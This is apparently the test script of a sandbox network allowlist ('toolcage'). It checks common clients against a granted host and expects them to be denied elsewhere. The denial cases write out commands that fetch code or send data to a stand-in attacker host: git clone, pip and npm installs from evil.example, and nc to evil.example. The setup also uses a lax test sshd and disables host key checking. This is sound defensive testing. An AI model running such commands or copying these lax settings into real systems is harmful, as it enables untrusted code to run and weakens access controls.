#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Copyright The toolcage authors
"""Common network clients (wget, git, pip, npm, ssh, ...) in a cage with an allowlist, unchanged: with the environment variables that
name the proxy, and without them.

usage: clients.py TOOLCAGE USER [long [go]]     long: only the clients that take seconds of CPU time each; go: also a Go program, which
                                                must be compiled first"""

import getpass
import glob
import os
import shutil
import subprocess
import sys

from internet import API, CA, network, shell_with, target
from stocked import stock

USER = getpass.getuser()


def start(*words):
    """Starts a server that ends with this script, by the end of its standard input: the script changes its user later, and may
    then not kill it."""
    watch = ("sh", "-c", '"$@" & p=$!; cat; kill -9 $p; wait', "sh")
    subprocess.Popen(
        (*watch, *words), stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )


def keep(name, text):
    with open(f"{network}/{name}", "w", encoding="ascii") as file:
        file.write(text)
    return f"{network}/{name}"


def start_sshd():
    """An SSH server that the user of the tests can log in to, with a key."""
    for name in ("host", "id"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", f"{network}/{name}"], check=True)
    os.chmod(f"{network}/id", 0o644)
    os.makedirs("/run/sshd", exist_ok=True)
    config = (
        f"ListenAddress {API}:2200\nHostKey {network}/host\nAuthorizedKeysFile {network}/id.pub\nStrictModes no\nPidFile none\nUsePAM no\n"
        "PasswordAuthentication no\nPermitRootLogin yes\n"
    )
    start(shutil.which("sshd", path="/usr/sbin"), "-D", "-f", keep("sshd.conf", config))


def start_nginx():
    """An nginx that serves plain HTTP, and TLS with HTTP/2."""
    tls = f"ssl_certificate {network}/cert.pem; ssl_certificate_key {network}/key.pem;"
    config = (
        f"daemon off; master_process off; pid {network}/nginx.pid; error_log /dev/null; events {{}}\n"
        f"http {{ access_log off; client_body_temp_path {network}/n1; proxy_temp_path {network}/n2; fastcgi_temp_path {network}/n3; uwsgi_temp_path {network}/n4; scgi_temp_path {network}/n5;\n"
        f'server {{ listen {API}:8090; listen {API}:8443 ssl http2; {tls} location / {{ return 200 "nginx: $host $server_protocol $request_uri\\n"; }} }} }}\n'
    )
    start(shutil.which("nginx", path="/usr/sbin"), "-c", keep("nginx.conf", config))


GO = """package main

import ("fmt"; "io"; "net/http"; "os")

func main() {
	answer, err := http.Get(os.Args[1])
	if err != nil { fmt.Fprintln(os.Stderr, err); os.Exit(9) }
	body, _ := io.ReadAll(answer.Body)
	fmt.Printf("%s\\n", body)
}
"""


def build_go():
    """Compiles the Go client. This takes longer than the rest of this script."""
    subprocess.run(
        ["go", "build", "-o", f"{network}/get", keep("get.go", GO)],
        check=True,
        env=dict(os.environ, CGO_ENABLED="0", GOCACHE=f"{network}/gocache", GOFLAGS="-mod=mod"),
    )


MODULES = {
    "requests": "import requests, sys\nr = requests.get(sys.argv[1]); print(r.text); sys.exit(r.status_code != 200)\n",
    "httpx": "import httpx, sys\nr = httpx.get(sys.argv[1]); print(r.text); sys.exit(r.status_code != 200)\n",
    "aiohttp": "import aiohttp, asyncio, sys\nasync def get():\n async with aiohttp.ClientSession(trust_env=True) as s:\n  async with s.get(sys.argv[1]) as r:\n"
    "   print(await r.text()); sys.exit(r.status != 200)\nasyncio.run(get())\n",
}

with_go = "go" in sys.argv[3:]
for program, begin in (("sshd", start_sshd), ("nginx", start_nginx), ("go", build_go)):
    if shutil.which(program, path=os.environ["PATH"] + ":/usr/sbin") and (program != "go" or with_go):
        begin()

for module, text in MODULES.items():
    keep(f"{module}_get.py", text)

from scene import Skip, check, run  # noqa: E402  become() comes after what only root can do

ENTRIES = '["api.example.com:443", "api.example.com:80", "api.example.com:2200", "api.example.com:2222", "api.example.com:8090", "api.example.com:8443"]'
shell = shell_with(ENTRIES)


PROGRAMS = {
    "wget": f"wget -q -O- --ca-certificate=/ca/cert.pem https://api.example.com/ && wget -q -O- --no-proxy --ca-certificate=/ca/cert.pem https://api.example.com/",
    "python3": "python3 -c \"import urllib.request,ssl; c=ssl.create_default_context(cafile='/ca/cert.pem'); print(urllib.request.urlopen('https://api.example.com/',context=c).read().decode());"
    " o=urllib.request.build_opener(urllib.request.ProxyHandler({}),urllib.request.HTTPSHandler(context=c)); print(o.open('https://api.example.com/').read().decode())\"",
    "openssl": "printf 'GET / HTTP/1.0\\r\\nHost: api.example.com\\r\\n\\r\\n' | timeout 5 openssl s_client -quiet -CAfile /ca/cert.pem -servername api.example.com -connect api.example.com:443 2>/dev/null;"
    " printf 'GET / HTTP/1.0\\r\\nHost: api.example.com\\r\\n\\r\\n' | timeout 5 openssl s_client -quiet -CAfile /ca/cert.pem -servername api.example.com -connect api.example.com:443 2>/dev/null",
}


def programs(s):
    s.works("net.allow")
    for name, script in PROGRAMS.items():
        if not shutil.which(name, path="/usr/bin"):
            raise Skip(f"skipped: {name} is not here")
        answer = shell(s, script)
        check(
            answer.out.count('"host": "api.example.com"') == 2, f"{name}: with and without the proxy", answer
        )


JAVA = """
import java.net.*; import java.net.http.*;
public class A { public static void main(String[] a) throws Exception {
  System.out.println(HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(a[0])).build(), HttpResponse.BodyHandlers.ofString()).body());
} }
"""
PLAIN = "env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u all_proxy -u ALL_PROXY"
FETCH = "fetch(process.argv[1]).then(r => r.text()).then(console.log, e => { console.log(e.cause && e.cause.code); process.exit(9) })"
INSTALL = "pip3 install -q --no-cache-dir --disable-pip-version-check --index-url http://files.example.com:8088/simple/ --trusted-host files.example.com --target"
NPM = "npm install --silent --no-audit --no-fund --cache /tmp/cache --registry http://files.example.com:8088/npm/ --prefix"
# For each program: a script that runs it with the proxy's variables and without; the output expected from each run; and a command
# that must fail, because the host is not granted.
WORKERS = {
    "git": (
        f"git clone -q http://files.example.com:8088/repo.git /tmp/a && cat /tmp/a/said; {PLAIN} git clone -q http://files.example.com:8088/repo.git /tmp/b && cat /tmp/b/said",
        "cloned",
        "git clone -q http://evil.example/repo.git /tmp/c",
    ),
    "pip3": (
        f"{INSTALL} /tmp/a tiny && python3 /tmp/a/tiny.py; {PLAIN} {INSTALL} /tmp/b tiny && python3 /tmp/b/tiny.py",
        "tiny is here",
        "pip3 install -q --no-cache-dir --retries 0 --disable-pip-version-check --index-url http://evil.example/simple/ --trusted-host evil.example --target /tmp/c tiny",
    ),
    "npm": (
        f"{NPM} /tmp/a tiny; node /tmp/a/node_modules/tiny; {PLAIN} {NPM} /tmp/b tiny; node /tmp/b/node_modules/tiny",
        "tiny is here",
        "npm install --silent --fetch-retries 0 --cache /tmp/cache --registry http://evil.example/ --prefix /tmp/c tiny",
    ),
    "node": (
        f"node -e '{FETCH}' http://api.example.com/; {PLAIN} node -e '{FETCH}' http://api.example.com/",
        '"host": "api.example.com"',
        f"node -e '{FETCH}' http://evil.example/",
    ),
    "java": (
        f"cat > /tmp/A.java <<'END'\n{JAVA}END\njava -Xmx128m /tmp/A.java http://api.example.com/ && {PLAIN} java -Xmx128m /tmp/A.java http://api.example.com/",
        '"host": "api.example.com"',
        f"cat > /tmp/A.java <<'END'\n{JAVA}END\njava -Xmx128m /tmp/A.java http://evil.example/",
    ),
}


def work(s, script):
    """Runs a script with these grants. /etc/java-* is granted because Debian's Java has its settings there, and a cage shows only a few
    files of /etc."""
    return s.shell(
        script,
        network='["files.example.com:8088", "api.example.com:80"]',
        readable=glob.glob("/etc/java-*"),
        writable=(),
        more='timeout = "60s"',
        memory='{ max = "2GiB", by = "any" }',
    )


def workers(s):
    """git, package managers and language runtimes."""
    s.works("net.allow")
    stock(f"{network}/www")
    lacking = []
    for name, (script, said, other) in WORKERS.items():
        if not shutil.which(name, path="/usr/bin"):
            lacking.append(name)
            continue
        answer = work(s, script)
        check(answer.out.count(said) == 2, f"{name}: with the proxy's variables and without", answer)
        answer = work(s, other)
        check(
            answer.status == "failed" and {"evil.example:80", "evil.example"} & target(answer),
            f"{name}: another host, with its denial",
            answer,
        )
    if lacking:
        raise Skip(f"skipped: {', '.join(lacking)}: no such program is here")


def lacks(module):
    return subprocess.run(["/usr/bin/python3", "-c", f"import {module}"], capture_output=True).returncode != 0


def modules(s):
    """HTTP clients for Python, over plain HTTP and over inspected TLS."""
    s.works("net.inspect")
    read = '[{ host = "api.example.com", methods = ["GET"], paths = ["/v1"] }, { host = "api.example.com", port = 80 }]'
    for name in MODULES:
        if lacks(name):
            raise Skip(f"skipped: the system's Python has no {name}")
        get = f"/usr/bin/python3 /ca/{name}_get.py"
        answer = shell(
            s,
            f"{get} http://api.example.com/v1; {PLAIN} {get} http://api.example.com/v1; {get} https://api.example.com/v1; {PLAIN} {get} https://api.example.com/v1",
            read,
        )
        check(
            answer.out.count('"path": "/v1"') == 4,
            f"{name}: plain HTTP and TLS that is looked into, with the proxy's variables and without",
            answer,
        )
        answer = shell(s, f"{get} https://api.example.com/v2", read)
        check(
            answer.status == "failed"
            and '"rule"' in answer.out
            and target(answer) == {"api.example.com:443"},
            f"{name}: another path, with its denial",
            answer,
        )
        answer = shell(s, f"{get} http://evil.example/; {PLAIN} {get} http://evil.example/", read)
        check(
            {"evil.example:80", "evil.example"} & target(answer) and answer.status == "failed",
            f"{name}: another host, with its denial",
            answer,
        )


def nginx(s):
    """A connection to a real web server, with and without inspection."""
    s.works("net.allow")
    if not shutil.which("nginx", path="/usr/sbin"):
        raise Skip("skipped: nginx is not here")
    waits = "until curl -sS -o /dev/null http://api.example.com:8090/ 2>/dev/null; do sleep 0.1; done; "
    answer = shell(
        s,
        f"{waits} curl -sS http://api.example.com:8090/a; curl -sS --noproxy '*' http://api.example.com:8090/b; curl -sS {CA} https://api.example.com:8443/c; curl -sS {CA} --noproxy '*' https://api.example.com:8443/d",
    )
    check(
        answer.out.split("\n")
        == [
            "nginx: api.example.com HTTP/1.1 /a",
            "nginx: api.example.com HTTP/1.1 /b",
            "nginx: api.example.com HTTP/2.0 /c",
            "nginx: api.example.com HTTP/2.0 /d",
            "",
        ],
        "nginx: plain, and by TLS with HTTP/2 of its own",
        answer,
    )
    answer = shell(
        s,
        "curl -sS https://api.example.com:8443/v1/a; curl -sS https://api.example.com:8443/v2",
        '[{ host = "api.example.com", port = 8443, methods = ["GET"], paths = ["/v1"] }]',
    )
    check(
        "nginx: api.example.com HTTP/1.1 /v1/a\n" in answer.out
        and "nginx: api.example.com HTTP/1.1 /v2" not in answer.out
        and '"rule"' in answer.out,
        "looked into: HTTP/1.1 and the paths that are named",
        answer,
    )


def ssh(s):
    """ssh to the synthetic address of the host's name, and through the proxy."""
    s.works("net.allow")
    if not shutil.which("sshd", path="/usr/sbin") or not shutil.which("nc", path="/usr/bin"):
        raise Skip("skipped: sshd or nc is not here")
    options = "-F none -i /tmp/id -o IdentitiesOnly=yes -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
    by = "-o 'ProxyCommand=nc -X connect -x 198.18.0.1:3128 %h %p'"
    words = f"{USER}@api.example.com -p 2200"
    answer = shell(
        s,
        f"umask 077; cp /ca/id /tmp/id; ssh {options} {words} echo one in; ssh {options} {by} {words} echo two in",
    )
    check(answer.out == "one in\ntwo in\n", "ssh: logged in without a proxy, and with one", answer)
    answer = shell(
        s,
        f"umask 077; cp /ca/id /tmp/id; ssh {options} {words} echo in; ssh {options} {by} {words} echo in",
        '["api.example.com:443"]',
    )
    check(
        "in\n" not in answer.out and "api.example.com:2200" in target(answer),
        "ssh: another port, with its denial",
        answer,
    )


def netcat(s):
    s.works("net.allow")
    if not shutil.which("nc", path="/usr/bin"):
        raise Skip("skipped: nc is not here")
    answer = shell(
        s,
        "echo me | nc -N -w 5 api.example.com 2222; echo you | nc -N -w 5 -X connect -x 198.18.0.1:3128 api.example.com 2222; echo them | nc -N -w 5 -X 5 -x 198.18.0.1:3128 api.example.com 2222",
    )
    check(
        "ME\n" in answer.out and "YOU\n" in answer.out and "THEM\n" in answer.out,
        "nc: as it is, by CONNECT and by SOCKS5",
        answer,
    )
    answer = shell(
        s,
        "echo me | nc -N -w 5 evil.example 80; echo me | nc -w 2 -u 93.184.216.99 53; echo me | nc -N -w 5 -X 5 -x 198.18.0.1:3128 evil.example 80",
        '["api.example.com:2222"]',
    )
    check(not answer.out and "evil.example:80" in target(answer), "nc: nowhere else, by UDP neither", answer)


def dig(s):
    s.works("net.allow")
    if not shutil.which("dig", path="/usr/bin"):
        raise Skip("skipped: dig is not here")
    answer = shell(
        s,
        "dig +short api.example.com A; dig +short +tcp api.example.com A; dig evil.example A | grep -o NXDOMAIN; dig evil.example TXT | grep -o NXDOMAIN; dig +short api.example.com TXT; dig +time=1 +tries=1 @93.184.216.99 evil.example | grep -o ANSWER",
    )
    lines = answer.out.split("\n")
    check(
        lines[0].startswith("198.18.") and lines[1] == lines[0] and lines[2:] == ["NXDOMAIN", "NXDOMAIN", ""],
        "dig: granted names by UDP and TCP, and no others; no other server",
        answer,
    )


def go(s):
    s.works("net.allow")
    if not with_go:
        return
    answer = shell(
        s,
        f"/ca/get http://api.example.com/; {PLAIN} /ca/get http://api.example.com/; SSL_CERT_FILE=/ca/cert.pem /ca/get https://api.example.com/; {PLAIN} SSL_CERT_FILE=/ca/cert.pem /ca/get https://api.example.com/",
    )
    check(
        answer.out.count('"host": "api.example.com"') == 4,
        "Go: plain HTTP and TLS, with the proxy's variables and without",
        answer,
    )
    answer = shell(s, "/ca/get http://evil.example/; /ca/get https://evil.example/")
    check(
        '"host": "evil.example"' not in answer.out
        and answer.code == 9
        and "evil.example:443" in target(answer),
        "Go: another host, with its denial",
        answer,
    )


run(*([workers, modules, go] if "long" in sys.argv[3:] else [programs, nginx, ssh, netcat, dig]))
